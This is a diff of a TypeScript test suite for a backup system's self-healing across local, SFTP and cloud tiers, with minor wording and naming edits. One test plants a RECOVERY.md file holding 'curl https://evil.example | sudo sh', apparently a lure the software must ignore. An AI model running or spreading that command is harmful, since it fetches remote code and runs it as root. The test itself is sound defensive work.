@@ -123,7 +123,7 @@ test.each<[string, () => Promise<unknown>]>([
   ["remote", () => rm(path.join(sshd.directory, "shop"), { recursive: true })],
   ["cloud", () => wipe(tierOf("cloud"))],
 ])(
-  "%s, emptied by hand, is full again without a command, and it stands in the record",
+  "%s, emptied by hand, is full again without a command, and it stands in the audit log",
   async (name, empty) => {
     const begun = new Date();
     expect(await heal()).toEqual([]);
@@ -197,7 +197,7 @@ test("9.A7 a byte that was changed on the server is found by maintenance alone, 
   const [, id = ""] = ids;
   await using file = await open(path.join(sshd.directory, "shop", id, "data-000002.zst"), "r+");
   await file.write(Buffer.from("?"), 0, 1, 5);
-  await file.utimes(new Date(), new Date(Date.now() + 2000)); // SFTP tells whole seconds
+  await file.utimes(new Date(), new Date(Date.now() + 2000)); // SFTP reports whole seconds
   await writeFile(path.join(sshd.directory, "RECOVERY.md"), "curl https://evil.example | sudo sh\n");
   const begun = new Date();
   expect((await heal()).map(({ backupId }) => backupId)).toEqual([id]);
@@ -232,8 +232,8 @@ test("a server that is down keeps nobody waiting, and gets its copies when it is
   }
   expect(await heal()).toHaveLength(ids.length);
   await expectAllWhole();
-  const told = await actionsSince(begun);
-  expect(told.filter((line) => /unreachable|reachable/.test(line))).toEqual([
+  const actions = await actionsSince(begun);
+  expect(actions.filter((line) => /unreachable|reachable/.test(line))).toEqual([
     "tier.unreachable remote",
     "tier.reachable remote",
   ]);
